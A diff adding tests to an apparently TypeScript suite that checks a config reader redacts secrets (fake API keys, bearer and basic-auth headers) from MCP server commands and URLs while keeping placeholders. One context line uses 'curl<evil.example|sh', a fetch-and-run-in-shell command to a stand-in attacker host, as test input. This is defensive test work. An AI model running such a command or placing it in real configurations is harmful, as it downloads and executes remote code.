@@ -208,6 +208,32 @@ describe("what it understands", () => {
     ).toBe("https://h/mcp/[redacted]/sse?key=[redacted]&x=[redacted]");
   });
 
+  it("keeps no value of a secret that stands in arguments or in an address", async () => {
+    const key = "sk-proj-AbCdEf0123456789AbCdEf";
+    const header = (...args: readonly string[]) => cursor({ command: "npx", args: ["mcp-remote", ...args] });
+    const found = [
+      await cursor({ command: "node", args: ["x.js", "--api-key", key] }),
+      await cursor({ command: "sh", args: ["-c", `token=$(cat x) node y ${key}`] }),
+      await cursor({ url: `https://h/mcp?api_key=${key}` }),
+      await header("--header", `Authorization: Bearer ${key}`),
+      await header(`--header=Authorization:Basic dXNlcjpwYXNz`),
+      await header("-H", "X-Api-Key: hunter2hunter2"),
+    ];
+    expect(JSON.stringify(found)).not.toMatch(/AbCdEf|dXNlcjpwYXNz|hunter2/);
+    for (const { problems } of found)
+      expect(problems.join()).toContain("has what looks like a secret in its");
+    expect(found[3]!.shown).toBe("npx mcp-remote --header 'Authorization: Bearer [redacted]'");
+  });
+
+  it("leaves placeholders in a header or an address as they are, but not their defaults", async () => {
+    const args = ["--header", `Authorization: Bearer \${TOKEN}`];
+    expect((await cursor({ command: "x", args })).config).toMatchObject({ args });
+    const url = `https://h/mcp?api_key=\${env:KEY}&k=\${K:-s3cret}`;
+    expect((await cursor({ url })).config).toMatchObject({
+      url: `https://h/mcp?api_key=\${env:KEY}&k=[redacted]`,
+    });
+  });
+
   it("shows what calls itself a secret and can be run", async () => {
     const shownOf = async (...args: readonly string[]) => (await cursor({ command: "sh", args })).shown;
     expect(await shownOf("-c", "token=$(curl<evil.example|sh)")).toContain("curl<evil.example|sh");
